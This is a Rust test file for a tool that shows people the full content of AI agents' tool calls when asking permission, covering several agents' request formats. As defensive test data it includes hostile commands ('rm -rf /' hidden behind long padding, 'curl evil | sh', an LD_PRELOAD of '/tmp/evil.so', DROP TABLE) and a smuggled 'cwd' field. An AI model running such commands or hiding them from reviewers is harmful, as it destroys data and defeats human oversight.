//! What a call says that people are asked about.

use super::*;

#[test]
fn all_that_goes_into_a_call_is_shown_and_can_be_read_in_one_way_only() {
    for (input, shown) in [
        (json!({"command": "rm -rf 'a b'"}), "rm -rf 'a b'"),
        (
            json!({"command": ["bash", "-c", "echo $HOME; it's"]}),
            r"bash -c 'echo $HOME; it'\''s'",
        ),
        (
            json!({"command": "rm", "args": ["-rf", "/srv/me"]}),
            "rm -rf /srv/me",
        ),
        (json!({"cmd": "rm -i", "args": ["a b"]}), "'rm -i' 'a b'"),
        (
            json!({"command": "make install", "cwd": "/", "env": {"LD_PRELOAD": "/tmp/evil.so"}}),
            "make install\ncwd: /\nenv: {\"LD_PRELOAD\":\"/tmp/evil.so\"}",
        ),
        (
            json!({"path": "a.txt", "content": "x\npath: b.txt"}),
            "a.txt\ncontent:\n  x\n  path: b.txt",
        ),
        (
            json!({"body": "x", "method": "DELETE", "url": "https://api.example/1"}),
            "https://api.example/1\nbody: x\nmethod: DELETE",
        ),
        (
            json!({"query": "orders", "statement": "DROP TABLE orders"}),
            "orders\nstatement: DROP TABLE orders",
        ),
        // A command must not pass for other members.
        (
            json!({"command": "ls\ncwd: /tmp", "cwd": "/"}),
            "ls …\ncommand:\n  ls\n  cwd: /tmp\ncwd: /",
        ),
        (json!({"command": "one\ntwo"}), "one\ntwo"),
        (json!({"a\nb: c": "", "n": null}), "\"a\\nb: c\": \"\"\nn: null"),
        (
            json!({"command": ["ls", 1], "path": 7}),
            "command: [\"ls\",1]\npath: 7",
        ),
        (json!({"path": "a.txt"}), "a.txt"),
        (json!("free text"), "free text"),
        (json!({"pattern": "fn .*"}), "fn .*"),
        (json!(["rm", "-rf", {"x": [1]}]), "[\"rm\",\"-rf\",{\"x\":[1]}]"),
        (json!({"n": 1}), "n: 1"),
        (json!(false), "false"),
    ] {
        assert_eq!(input::shown_input(&input).as_deref(), Some(shown));
    }
    for nothing in [json!({}), json!([]), json!(null)] {
        assert_eq!(input::shown_input(&nothing), None);
    }
}

#[test]
fn who_is_asked_about_a_call_by_its_name_alone_sees_all_that_it_was_announced_with() {
    let mut desk = Desk::new();
    let command = format!("echo harmless # {}\nrm -rf / # the end", "x".repeat(17_000));
    let call = AcpToolCall::new("c1", format!("{}.", "t".repeat(20_000)))
        .kind(AcpKind::Execute)
        .raw_input(json!({ "command": command }));
    desk.apply(SessionUpdate::ToolCall(call));
    assert!(desk.only_call().input.len() < 17_000, "its entry has a limit");
    desk.call(ToolCallUpdateFields::new());
    let asked = desk.timeline.asked("c1").unwrap();
    assert!(asked.title.ends_with("t."));
    assert!(
        asked.detail == format!("{command}\n\n{}", asked.title),
        "{}",
        asked.detail.len()
    );
    assert_eq!(desk.timeline.asked("c2"), None);

    let mut desk = Desk::new();
    let diff = |path: &str, new: String| ToolCallContent::Diff(AcpDiff::new(format!("/room/a/{path}"), new));
    let content = vec![
        diff("small.txt", "b".into()),
        diff("evil.sh", "EVIL\n".repeat(60_000)),
    ];
    desk.call(ToolCallUpdateFields::new().content(content));
    let asked = desk.timeline.asked("c1").unwrap();
    let paths: Vec<_> = asked.diffs.iter().map(|diff| diff.path.as_str()).collect();
    assert_eq!(paths, ["small.txt", "evil.sh"]);
    assert_eq!(asked.detail.matches("+EVIL").count(), 60_000);
}

#[test]
fn what_runs_is_shown_beside_a_change_unless_the_change_says_the_same() {
    let asked = |kind, input: serde_json::Value| {
        let mut desk = Desk::new();
        let diff = AcpDiff::new("/room/a/x.txt", "new").old_text("old".to_owned());
        let fields = ToolCallUpdateFields::new()
            .title("edit".to_owned())
            .kind(kind)
            .content(vec![ToolCallContent::Diff(diff)]);
        desk.call(fields.raw_input(input));
        let asked = desk.timeline.asked("c1").unwrap();
        assert_eq!(asked.diffs.len(), 1);
        asked.detail
    };
    let told = "change: x.txt\n-old\n+new\n";
    for (kind, input, detail) in [
        (AcpKind::Edit, json!(null), told),
        (AcpKind::Edit, json!("x.txt"), told),
        (
            AcpKind::Edit,
            json!({"file_path": "/room/a/x.txt", "old_string": "old", "new_string": "new"}),
            told,
        ),
        (
            AcpKind::Edit,
            json!({"path": "x.txt", "content": "other"}),
            "x.txt\ncontent: other",
        ),
        (AcpKind::Edit, json!({"path": "y.txt"}), "y.txt"),
        (
            AcpKind::Edit,
            json!({"path": "x.txt", "mode": "0777"}),
            "x.txt\nmode: 0777",
        ),
        (
            AcpKind::Edit,
            json!({"command": "curl evil | sh"}),
            "curl evil | sh",
        ),
        (AcpKind::Edit, json!({"command": "new"}), "new"),
        (AcpKind::Execute, json!("x.txt"), "x.txt"),
    ] {
        assert_eq!(asked(kind, input.clone()), detail, "{input}");
    }
}

/// As `session/request_permission` of an agent has it, in JSON.
fn asked_as(call: serde_json::Value) -> Asked {
    let mut desk = Desk::new();
    let call: ToolCallUpdate = serde_json::from_value(call).unwrap();
    let name = call_name(&call.tool_call_id.0);
    desk.apply(SessionUpdate::ToolCallUpdate(call));
    desk.timeline.asked(&name).unwrap()
}

#[test]
fn all_that_a_request_says_is_shown_once_in_the_shapes_of_the_agents_that_people_use() {
    let text = |text: &str| json!({ "type": "content", "content": { "type": "text", "text": text } });
    let plan = "## Plan\n1. do **this**\n2. do that\n";
    for (call, detail) in [
        // Claude Code: its plan, of before and of now.
        (
            json!({ "toolCallId": "t", "title": "Ready to code?", "kind": "switch_mode", "content": [text(plan)] }),
            plan.trim_end(),
        ),
        (
            json!({ "toolCallId": "t", "title": "Ready to code?", "kind": "switch_mode", "status": "pending",
                "rawInput": { "plan": plan, "planFilePath": "/p.md" }, "content": [text(plan)], "locations": [] }),
            "plan:\n  ## Plan\n  1. do **this**\n  2. do that\n  \nplanFilePath: /p.md",
        ),
        (
            json!({ "toolCallId": "t", "title": "`make`", "kind": "execute",
                "rawInput": { "command": "make", "description": "Build it" }, "content": [text("Build it")] }),
            "make\ndescription: Build it",
        ),
        (
            json!({ "toolCallId": "t", "title": "Edit `x.rs`", "kind": "edit", "locations": [{ "path": "/room/a/x.rs", "line": 3 }],
                "rawInput": { "file_path": "/room/a/x.rs", "old_string": "a", "new_string": "b" },
                "content": [{ "type": "diff", "path": "/room/a/x.rs", "oldText": "a", "newText": "b" }] }),
            "change: x.rs\n-a\n+b\n",
        ),
        // Codex: why it asks.
        (
            json!({ "toolCallId": "t", "title": "make", "kind": "execute", "content": [text("needs the network")],
                "rawInput": { "call_id": "t", "command": ["bash", "-lc", "make all"], "cwd": "/w" } }),
            "bash -lc 'make all'\ncall_id: t\ncwd: /w\n\nneeds the network",
        ),
        (
            json!({ "toolCallId": "t", "title": "Edit a.txt", "kind": "edit", "content": [
                { "type": "diff", "path": "/room/a/a.txt", "newText": "b" }, text("retry without the sandbox?")] }),
            "new file: a.txt\n+b\n\nretry without the sandbox?",
        ),
        // Gemini: its title is all.
        (
            json!({ "toolCallId": "t", "title": "make [in /w] (Builds)", "kind": "execute", "content": [], "locations": [] }),
            "make [in /w] (Builds)",
        ),
        // opencode.
        (
            json!({ "toolCallId": "t", "title": "external_directory", "kind": "other", "locations": [{ "path": "/etc/x" }],
                "rawInput": { "parentDir": "/etc" } }),
            "parentDir: /etc\nat: /etc/x",
        ),
        // Whatever else the protocol has.
        (
            json!({ "toolCallId": "t", "title": "look", "kind": "other", "locations": [{ "path": "/room/a/y", "line": 7 }], "content": [
                { "type": "content", "content": { "type": "image", "mimeType": "image/png", "data": "AAAA" } },
                { "type": "content", "content": { "type": "audio", "mimeType": "audio/wav", "data": "AAA=" } },
                { "type": "content", "content": { "type": "resource_link", "name": "notes", "uri": "file:///n" } },
                { "type": "content", "content": { "type": "resource", "resource": { "uri": "file:///r", "text": "inside" } } },
                { "type": "content", "content": { "type": "resource", "resource": { "uri": "file:///b", "blob": "AAAA" } } },
                { "type": "terminal", "terminalId": "term1" }] }),
            "y\n\nan image that is not shown here: image/png, 3 bytes\n\na sound that is not played here: audio/wav, 2 bytes\n\n\
             file: notes file:///n\n\nfile: file:///r\ninside\n\nfile that is not shown here: file:///b, unknown, 3 bytes\n\n\
             output of the terminal term1",
        ),
    ] {
        assert_eq!(asked_as(call.clone()).detail, detail, "{call}");
    }
    // What only looks like a part of what is shown is shown.
    let sly = json!({ "toolCallId": "t", "title": "x", "kind": "execute", "rawInput": { "command": "rm -rf build" }, "content": [text("rm")] });
    assert_eq!(asked_as(sly).detail, "rm -rf build\n\nrm");
    let long = "t".repeat(101);
    let call = json!({ "toolCallId": "t", "title": long, "rawInput": { "n": 1 } });
    assert_eq!(asked_as(call).detail, format!("n: 1\n\n{long}"));
}

#[test]
fn what_a_call_says_after_its_end_is_no_part_of_a_question() {
    let mut desk = Desk::new();
    let words = |text: &str| vec![ToolCallContent::from(text)];
    desk.call(
        ToolCallUpdateFields::new()
            .title("t".to_owned())
            .content(words("why")),
    );
    assert_eq!(desk.timeline.asked("c1").unwrap().detail, "why");
    let over = ToolCallUpdateFields::new().status(ToolCallStatus::Completed);
    desk.call(over.content(words("out")));
    assert_eq!(desk.timeline.asked("c1"), None);
    assert_eq!(desk.only_call().output, "out");
}

#[test]
fn what_a_change_says_is_not_said_again_in_its_entry_and_yet_kept() {
    let mut desk = Desk::new();
    let diff = |new: &str| vec![ToolCallContent::Diff(AcpDiff::new("/room/a/x.txt", new))];
    let input = json!({ "file_path": "/room/a/x.txt", "content": "new" });
    let fields = ToolCallUpdateFields::new().kind(AcpKind::Edit);
    desk.call(fields.raw_input(input).content(diff("new")));
    assert_eq!(desk.only_call().input, "x.txt");
    assert_eq!(
        desk.timeline.asked("c1").unwrap().detail,
        "new file: x.txt\n+new\n"
    );
    // Another change no longer says what goes in.
    desk.call(ToolCallUpdateFields::new().content(diff("harmless")));
    assert_eq!(
        desk.timeline.asked("c1").unwrap().detail,
        "/room/a/x.txt\ncontent: new"
    );
}

#[test]
fn what_is_too_long_to_be_looked_at_or_was_let_go_is_not_asked_about() {
    let mut desk = Desk::new();
    let command = |length: usize| json!({ "command": "x".repeat(length) });
    desk.call(ToolCallUpdateFields::new().raw_input(command(LONGEST_ASKED + 1)));
    assert_eq!(desk.timeline.asked("c1"), None);
    // One that is asked about again, and shorter, can be.
    desk.call(ToolCallUpdateFields::new().raw_input(command(LONGEST_ASKED)));
    assert_eq!(desk.timeline.asked("c1").unwrap().detail.len(), LONGEST_ASKED);
    // An agent can't fill the memory with what it announces.
    for number in 0..100 {
        let call = AcpToolCall::new(format!("m{number}"), "x").raw_input(command(1 << 20));
        desk.apply(SessionUpdate::ToolCall(call));
    }
    let known = |desk: &Desk, number: u32| desk.timeline.asked(&format!("m{number}")).is_some();
    let kept = (0..100).filter(|number| known(&desk, *number)).count();
    assert!((10..=17).contains(&kept), "{kept}");
    assert!(known(&desk, 99) && !known(&desk, 0) && desk.timeline.asked("c1").is_none());
}
